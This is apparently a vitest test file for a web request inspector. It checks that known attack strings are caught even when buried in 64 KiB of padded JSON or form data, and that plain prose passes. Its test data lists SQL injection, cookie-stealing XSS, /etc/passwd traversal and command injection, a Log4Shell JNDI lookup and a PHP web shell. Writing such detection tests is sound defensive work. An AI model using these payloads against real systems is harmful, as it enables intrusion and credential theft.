// Long requests: what is looked at closely of them, and that padding hides nothing.

import type { InspectedRequest } from '@parapet/kinds';
import { expect, test } from 'vitest';
import { isShipped, shippedInspector } from '../evasions/shippedInspector.ts';

const PROSE =
  'The library, where members may order by telephone, opens at nine on every day of the week; select a room, and update your card there or at the desk. ';
const ATTACKS: readonly string[] = [
  "x' or 1=1 -- ",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd',
  '${jndi:ldap://192.0.2.7/a}',
  '<?php system($_GET["c"]); ?>',
  '-1 union all select null,login,pass from users',
  '1 and sleep(5)',
];

function post(type: string, body: string): InspectedRequest {
  return {
    method: 'POST',
    rawTarget: '/api/items',
    headers: [
      ['host', 'www.example.org'],
      ['content-type', type],
    ],
    body: Buffer.from(body),
    isBodyCut: false,
    site: '',
  };
}

const items = (count: number, at: number, text: string): string =>
  JSON.stringify(
    Array.from({ length: count }, (_, i) => ({
      id: i,
      title: 'A note',
      text: i === at ? text : PROSE.repeat(3),
    })),
  );

test.skipIf(!isShipped())('an attack is found wherever it stands in 64 KiB of prose in JSON', () => {
  const inspector = shippedInspector();
  for (const attack of ATTACKS) {
    for (const at of [0, 60, 119]) {
      const alone = inspector.inspect(post('application/json', items(120, at, attack)));
      expect(alone.action, `${attack} at ${at}`).toBe('block');
      const inside = items(120, at, `${PROSE}${attack} ${PROSE}`);
      expect(inspector.inspect(post('application/json', inside)).action, `${attack} inside ${at}`).not.toBe(
        'pass',
      );
    }
  }
});

test.skipIf(!isShipped())('an attack behind very many values is found', () => {
  const inspector = shippedInspector();
  const values = Array.from({ length: 6000 }, (_, i) => `value ${i}`);
  for (const attack of ATTACKS) {
    for (const at of [100, 1000, 3000, 5999]) {
      const json = JSON.stringify(values.with(at, attack));
      expect(inspector.inspect(post('application/json', json)).action, `${attack} at ${at}`).not.toBe('pass');
    }
    const form = values
      .map((value, i) => `f${i}=${encodeURIComponent(i === 900 ? attack : value)}`)
      .join('&');
    const { action } = inspector.inspect(post('application/x-www-form-urlencoded', form));
    expect(action, `${attack} in a form`).not.toBe('pass');
  }
});

test.skipIf(!isShipped())('prose of any length passes', () => {
  const inspector = shippedInspector();
  expect(inspector.inspect(post('application/json', items(120, -1, ''))).action).toBe('pass');
  expect(inspector.inspect(post('application/json', items(2, -1, ''))).action).toBe('pass');
});
